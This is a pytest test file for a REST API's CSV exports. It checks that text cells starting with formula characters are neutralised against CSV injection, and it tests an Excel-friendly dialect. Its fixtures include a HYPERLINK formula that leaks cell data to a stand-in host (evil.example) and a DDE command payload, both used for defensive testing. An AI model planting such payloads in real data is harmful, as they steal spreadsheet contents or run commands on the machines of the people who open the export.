"""CSV that is safe to open in a spreadsheet (issue 15, item 8).

Text cells that begin with `=`, `+`, `-`, `@`, tab or CR get a leading `'` (OWASP, CSV
injection) in every CSV the API writes; numbers stay numbers (the field's type decides, not
the content: a negative number is not a formula). `csv=excel` gives what a French Excel or
LibreOffice opens as is: `;` between cells, `,` in decimals, a UTF-8 byte order mark, CRLF.
It is valid wherever a CSV answer is asked for (format=csv or Accept: text/csv), and 400
anywhere else."""

import csv
import io
import json
import re

import pytest

from conftest import DEMO_01, problem, unique_word, utc_in

BOM = b"\xef\xbb\xbf"
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?[0-9]+([.,][0-9]+)?([eE][-+]?[0-9]+)?$")


def neutral(s):
    """What a text cell must read after CSV parsing."""
    return "'" + s if s[:1] and s[0] in FORMULA_LEADS else s


def rows_of(r, excel=False):
    """The rows of a CSV answer, after checking its bytes for the dialect."""
    assert r.status_code == 200, r.text
    assert r.headers["Content-Type"].split(";")[0].strip() == "text/csv"
    body = r.content
    if excel:
        assert body.startswith(BOM), body[:20]
        body = body[len(BOM):]
    else:
        assert not body.startswith(BOM)
    assert body.endswith(b"\r\n")
    text = body.decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if excel else ",", strict=True))


def value_at(item, column):
    v = item
    for part in column.split("."):
        v = v.get(part) if isinstance(v, dict) else None
    return v


def check_cell(column, v, cell, excel):
    """The CSV cell of JSON value v: the field's JSON type says whether it is a number."""
    if v is None:
        assert cell == "", (column, cell)
    elif isinstance(v, bool):
        assert cell == ("true" if v else "false"), (column, cell)
    elif isinstance(v, (int, float)):
        assert NUMBER.match(cell), (column, cell)
        assert ("." not in cell) if excel else ("," not in cell), (column, cell)
        assert float(cell.replace(",", ".")) == pytest.approx(v, rel=1e-12), (column, cell, v)
    elif isinstance(v, str):
        assert cell == neutral(v), (column, cell, v)
    elif isinstance(v, list) and all(isinstance(x, str) for x in v):
        assert cell == neutral(";".join(v)), (column, cell, v)
    else:
        assert json.loads(cell) == v, (column, cell, v)


def check_csv_matches_json(rows, items, excel):
    header, data = rows[0], rows[1:]
    assert len(data) == len(items)
    for row, item in zip(data, items):
        assert len(row) == len(header)
        for column, cell in zip(header, row):
            check_cell(column, value_at(item, column), cell, excel)
            if cell[:1] in FORMULA_LEADS and not NUMBER.match(cell):
                pytest.fail(f"a text cell of {column} starts a formula: {cell!r}")


# ---- every endpoint that writes CSV -------------------------------------------------

@pytest.fixture
def formula_data(api, admin_key, make_cluster, make_company, make_partner, make_event, make_project):
    """One row with a formula-like text in each resource with free text, and a registration."""
    w = unique_word()
    cluster = make_cluster(name=f"=SUM(1;2) {w}", acronym="+ACR", description="-1+1",
                           address={"street": "@rue", "city": "=Cluses"}, location={"lat": 47.2, "lon": -1.5536},
                           sectors=["=a", "b"], staff_fte=2.5)
    company = make_company(name=f"@Company {w}", description="=cmd|' /C calc'!A0", employees=12)
    api.put(f"/v1/clusters/{cluster['id']}/members/{company['id']}", {"role": "member"}, key=admin_key)
    partner = make_partner(name=f"-Partner {w}", description="\tTab")
    event = make_event(title=f"+Event {w}", description="=1", organizer_cluster_id=cluster["id"])
    project = make_project(title=f"=Project {w}", summary="@x", lead_cluster_id=cluster["id"], budget_eur=1234.5)
    r = api.post(f"/v1/events/{event['id']}/registrations",
                 {"name": '=HYPERLINK("http://evil.example/?leak","Cliquez ici")', "email": f"{w}@example.org"})
    assert r.status_code == 201, r.text
    return {"word": w, "cluster": cluster, "company": company, "partner": partner, "event": event, "project": project}


# (path template, params, which key) — every list with CSV, and the benchmark
CSV_ENDPOINTS = {
    "regions": ("/v1/regions", {}, None),
    "departments": ("/v1/departments", {}, None),
    "clusters": ("/v1/clusters", {"q": "{word}"}, None),
    "cluster members": ("/v1/clusters/{cluster}/members", {}, None),
    "cluster partners": ("/v1/clusters/{demo}/partners", {}, None),
    "cluster indicators": ("/v1/clusters/{demo}/indicators", {}, "reader"),
    "companies": ("/v1/companies", {"q": "{word}"}, None),
    "company clusters": ("/v1/companies/{company}/clusters", {}, None),
    "partners": ("/v1/partners", {"q": "{word}"}, None),
    "events": ("/v1/events", {"q": "{word}"}, None),
    "registrations": ("/v1/events/{event}/registrations", {}, "reader"),
    "projects": ("/v1/projects", {"q": "{word}"}, None),
    "benchmark": ("/v1/benchmark", {"cluster": "{demo}"}, "reader"),
}


def resolve(name, data):
    path, params, key = CSV_ENDPOINTS[name]
    ids = {"word": data["word"], "cluster": data["cluster"]["id"], "company": data["company"]["id"],
           "event": data["event"]["id"], "demo": DEMO_01}
    return path.format(**ids), {k: v.format(**ids) for k, v in params.items()}, key


def items_of(body):
    return body["indicators"] if "indicators" in body else body["items"]


@pytest.mark.parametrize("dialect", ["rfc4180", "excel"])
@pytest.mark.parametrize("name", list(CSV_ENDPOINTS))
def test_every_csv_endpoint_neutralises_text_and_keeps_numbers(api, reader_key, formula_data, name, dialect):
    path, params, role = resolve(name, formula_data)
    key = reader_key if role == "reader" else None
    excel = dialect == "excel"
    items = items_of(api.get(path, params=params, key=key).json())
    assert items
    csv_params = dict(params, format="csv", **({"csv": "excel"} if excel else {}))
    check_csv_matches_json(rows_of(api.get(path, params=csv_params, key=key), excel), items, excel)
    # Accept: text/csv is the same as format=csv
    accept_params = dict(params, **({"csv": "excel"} if excel else {}))
    r = api.get(path, params=accept_params, key=key, headers={"Accept": "text/csv"})
    check_csv_matches_json(rows_of(r, excel), items, excel)


@pytest.mark.parametrize("name", list(CSV_ENDPOINTS))
def test_csv_excel_without_csv_is_400(api, reader_key, formula_data, name):
    path, params, role = resolve(name, formula_data)
    key = reader_key if role == "reader" else None
    for extra, headers in (({}, {}), ({"format": "json"}, {}), ({}, {"Accept": "application/json"})):
        r = api.get(path, params=dict(params, csv="excel", **extra), key=key, headers=headers)
        body = problem(r, 400, "invalid_query")
        assert body["errors"][0]["field"] == "csv"
        assert "format=csv" in body["detail"]


@pytest.mark.parametrize("name", list(CSV_ENDPOINTS))
@pytest.mark.parametrize("value", ["Excel", "", "tsv", "excel,excel", "rfc4180"])
def test_an_unknown_csv_dialect_is_400(api, reader_key, formula_data, name, value):
    path, params, role = resolve(name, formula_data)
    key = reader_key if role == "reader" else None
    r = api.get(path, params=dict(params, format="csv", csv=value), key=key)
    body = problem(r, 400, "invalid_query")
    assert body["errors"][0]["field"] == "csv"


# ---- the reported case, end to end --------------------------------------------------

@pytest.mark.parametrize("dialect", ["rfc4180", "excel"])
def test_an_anonymous_registrants_formula_reaches_the_organiser_as_text(api, reader_key, admin_key, make_event, dialect):
    e = make_event()
    name = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
    r = api.post(f"/v1/events/{e['id']}/registrations", {"name": name, "email": f"{unique_word()}@example.org"})
    assert r.status_code == 201, r.text
    excel = dialect == "excel"
    params = {"format": "csv", **({"csv": "excel"} if excel else {})}
    for key in (reader_key, admin_key):
        resp = api.get(f"/v1/events/{e['id']}/registrations", params=params, key=key)
        rows = rows_of(resp, excel)
        row = dict(zip(rows[0], rows[1]))
        assert row["name"] == "'" + name
        # the raw bytes: the quote is inside the quoted cell, quotes doubled
        assert b'"\'=HYPERLINK(""http://evil.example/?leak=""&A1' in resp.content


@pytest.mark.parametrize("lead", FORMULA_LEADS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
@pytest.mark.parametrize("dialect", ["rfc4180", "excel"])
def test_each_leading_character_gets_a_quote(api, make_partner, lead, dialect):
    w = unique_word()
    p = make_partner(name=f"{lead}cmd {w}", description=f"{lead}{lead}2")
    excel = dialect == "excel"
    r = api.get("/v1/partners", params={"q": w, "format": "csv", **({"csv": "excel"} if excel else {})})
    rows = rows_of(r, excel)
    row = dict(zip(rows[0], rows[1]))
    assert row["id"] == p["id"]
    assert row["name"] == f"'{lead}cmd {w}"
    assert row["description"] == f"'{lead}{lead}2"


@pytest.mark.parametrize("text", ["a=b", " =1", "'=already", "x-y", "\n=1", "é=1", "1+1"])
def test_only_a_leading_formula_character_counts(api, make_partner, text):
    w = unique_word()
    make_partner(name=f"P {w}", description=text)
    rows = rows_of(api.get("/v1/partners", params={"q": w, "format": "csv"}))
    assert dict(zip(rows[0], rows[1]))["description"] == text


# ---- numbers ------------------------------------------------------------------------

@pytest.mark.parametrize("dialect", ["rfc4180", "excel"])
def test_negative_and_decimal_numbers_stay_numbers(api, make_cluster, dialect):
    w = unique_word()
    make_cluster(name=f"Grappe {w}", location={"lat": 47.218371, "lon": -1.553621}, staff_fte=2.75)
    excel = dialect == "excel"
    r = api.get("/v1/clusters", params={"q": w, "format": "csv", **({"csv": "excel"} if excel else {})})
    rows = rows_of(r, excel)
    row = dict(zip(rows[0], rows[1]))
    if excel:
        assert (row["location.lat"], row["location.lon"], row["staff_fte"]) == ("47,218371", "-1,553621", "2,75")
        assert b";-1,553621;" in r.content
    else:
        assert (row["location.lat"], row["location.lon"], row["staff_fte"]) == ("47.218371", "-1.553621", "2.75")
        assert b",-1.553621," in r.content
    assert row["version"] == "1"


def test_a_text_that_looks_like_a_negative_number_is_text(api, make_partner):
    """The field's type decides: a phone or a description "-12" is text, and neutralised."""
    w = unique_word()
    make_partner(name=f"P {w}", description="-12", phone="+33 4 50 00 00 00")
    rows = rows_of(api.get("/v1/partners", params={"q": w, "format": "csv"}))
    row = dict(zip(rows[0], rows[1]))
    assert row["description"] == "'-12"
    assert row["phone"] == "'+33 4 50 00 00 00"


@pytest.mark.parametrize("dialect", ["rfc4180", "excel"])
def test_benchmark_csv_numbers(api, reader_key, dialect):
    excel = dialect == "excel"
    params = {"cluster": DEMO_01, "format": "csv", **({"csv": "excel"} if excel else {})}
    rows = rows_of(api.get("/v1/benchmark", params=params, key=reader_key), excel)
    assert rows[0] == ["indicator", "count", "min", "p25", "median", "p75", "max", "value", "percentile"]
    body = api.get("/v1/benchmark", params={"cluster": DEMO_01}, key=reader_key).json()
    check_csv_matches_json(rows, body["indicators"], excel)
    decimals = [c for row in rows[1:] for c in row[1:] if c and not c.isdigit()]
    assert decimals, "the demo's benchmark has decimal figures"
    assert all(("," in c) == excel and ("." in c) != excel for c in decimals), decimals


# ---- the Excel dialect's bytes ------------------------------------------------------

def test_csv_excel_bytes(api, make_cluster):
    w = unique_word()
    c = make_cluster(name=f"Grappe {w}; Savoie, \"Alpes\"", description="ligne 1\r\nligne 2; fin",
                     sectors=["décolletage", "mécatronique"], staff_fte=1.5)
    r = api.get("/v1/clusters", params={"q": w, "format": "csv", "csv": "excel"})
    assert r.status_code == 200
    assert r.headers["Content-Type"] == "text/csv; charset=utf-8"
    body = r.content
    assert body.startswith(BOM + b"id;name;")
    assert body.count(BOM) == 1
    assert body.endswith(b"\r\n")
    lines = body[len(BOM):].split(b"\r\n")
    assert len(lines) == 4  # header, the row (a CRLF inside its description), and the empty tail
    assert b"\n" not in lines[0] and b"\r" not in lines[0]
    assert f'{c["id"]};"Grappe {w}; Savoie, ""Alpes""";'.encode() in body  # ';' and quotes quoted
    assert '"ligne 1\r\nligne 2; fin"'.encode() in body
    assert '"décolletage;mécatronique"'.encode("utf-8") in body  # arrays join with ';': quoted
    assert b";1,5;" in body  # decimal comma, unquoted
    assert b"," not in lines[0]
    rows = rows_of(r, excel=True)
    row = dict(zip(rows[0], rows[1]))
    assert row["name"] == f"Grappe {w}; Savoie, \"Alpes\""
    assert row["description"] == "ligne 1\r\nligne 2; fin"
    assert row["sectors"] == "décolletage;mécatronique"


def test_rfc4180_csv_is_unchanged_by_the_excel_dialect(api, make_cluster):
    w = unique_word()
    make_cluster(name=f"Grappe {w}; Savoie", staff_fte=1.5)
    body = api.get("/v1/clusters", params={"q": w, "format": "csv"}).content
    assert body.startswith(b"id,name,")
    assert f",Grappe {w}; Savoie,".encode() in body  # ';' needs no quotes with ','
    assert b",1.5," in body


def test_csv_excel_follows_the_pages(api, make_cluster):
    w = unique_word()
    for i in range(3):
        make_cluster(name=f"Grappe {w} {i}")
    r = api.get("/v1/clusters", params={"q": w, "format": "csv", "csv": "excel", "limit": 1})
    seen = []
    while True:
        rows = rows_of(r, excel=True)
        seen.extend(row[1] for row in rows[1:])
        link = r.headers.get("Link")
        if not link:
            break
        url = link.split(";")[0].strip()[1:-1]
        assert "csv=excel" in url
        r = api.get(url)
    assert seen == [f"Grappe {w} {i}" for i in range(3)]


@pytest.mark.parametrize("fmt", ["ndjson", "geojson", "ics"])
def test_csv_excel_with_another_format_is_400(api, fmt):
    r = api.get("/v1/events", params={"format": fmt, "csv": "excel", "from": utc_in(days=-1)})
    assert problem(r, 400, "invalid_query")["errors"][0]["field"] == "csv"


@pytest.mark.parametrize("path", ["/v1/search?q=grappe", f"/v1/clusters/{DEMO_01}", "/v1/stats"])
def test_csv_is_unknown_where_no_csv_is_written(api, path):
    sep = "&" if "?" in path else "?"
    r = api.get(f"{path}{sep}csv=excel")
    assert problem(r, 400, "invalid_query")["errors"][0]["field"] == "csv"
